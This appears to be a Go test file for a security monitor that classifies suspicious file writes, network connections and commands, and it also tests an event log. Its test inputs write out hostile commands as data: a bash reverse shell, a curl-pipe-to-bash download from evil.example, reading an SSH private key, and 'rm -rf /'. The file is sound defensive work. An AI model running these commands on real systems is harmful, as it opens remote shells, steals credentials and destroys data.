package monitor

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestClassifyWriteCredentialPath(t *testing.T) {
	pattern := ClassifyWrite("/home/user/.ssh/authorized_keys", nil)
	assert.Contains(t, pattern, ".ssh")
}

func TestClassifyWriteExecutableExtension(t *testing.T) {
	pattern := ClassifyWrite("/tmp/payload.sh", nil)
	assert.Contains(t, pattern, ".sh")
}

func TestClassifyWriteShebang(t *testing.T) {
	pattern := ClassifyWrite("/tmp/innocuous.txt", []byte("#!/bin/bash\nrm -rf /"))
	assert.Equal(t, "shebang in written content", pattern)
}

func TestClassifyWriteUnremarkable(t *testing.T) {
	pattern := ClassifyWrite("/tmp/notes.md", []byte("hello"))
	assert.Empty(t, pattern)
}

func TestClassifyNetworkRawIP(t *testing.T) {
	pattern := ClassifyNetwork("203.0.113.7", 443)
	assert.Equal(t, "connection to raw IP literal", pattern)
}

func TestClassifyNetworkBackdoorPort(t *testing.T) {
	pattern := ClassifyNetwork("example.com", 4444)
	assert.Equal(t, "connection to common backdoor port", pattern)
}

func TestClassifyNetworkUnremarkable(t *testing.T) {
	pattern := ClassifyNetwork("registry.npmjs.org", 443)
	assert.Empty(t, pattern)
}

func TestClassifyCommandReverseShell(t *testing.T) {
	pattern := ClassifyCommand("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
	assert.Equal(t, "reverse shell pattern", pattern)
}

func TestClassifyCommandPipeToShell(t *testing.T) {
	pattern := ClassifyCommand("curl http://evil.example/install.sh | bash")
	assert.Equal(t, "pipe-to-shell pattern", pattern)
}

func TestClassifyCommandCredentialHarvest(t *testing.T) {
	pattern := ClassifyCommand("cat ~/.ssh/id_rsa")
	assert.Equal(t, "credential harvesting pattern", pattern)
}

func TestClassifyCommandUnremarkable(t *testing.T) {
	pattern := ClassifyCommand("npm install")
	assert.Empty(t, pattern)
}

func TestSuspiciousLogEvictsOldest(t *testing.T) {
	log := NewSuspiciousLog(2)

	log.Record(SuspiciousEvent{Target: "a"})
	log.Record(SuspiciousEvent{Target: "b"})
	log.Record(SuspiciousEvent{Target: "c"})

	recent := log.Recent(10)
	assert.Len(t, recent, 2)
	assert.Equal(t, "b", recent[0].Target)
	assert.Equal(t, "c", recent[1].Target)
}

func TestSuspiciousLogRecentLimitsCount(t *testing.T) {
	log := NewSuspiciousLog(10)

	log.Record(SuspiciousEvent{Target: "a"})
	log.Record(SuspiciousEvent{Target: "b"})
	log.Record(SuspiciousEvent{Target: "c"})

	recent := log.Recent(2)
	assert.Equal(t, []string{"b", "c"}, []string{recent[0].Target, recent[1].Target})
}
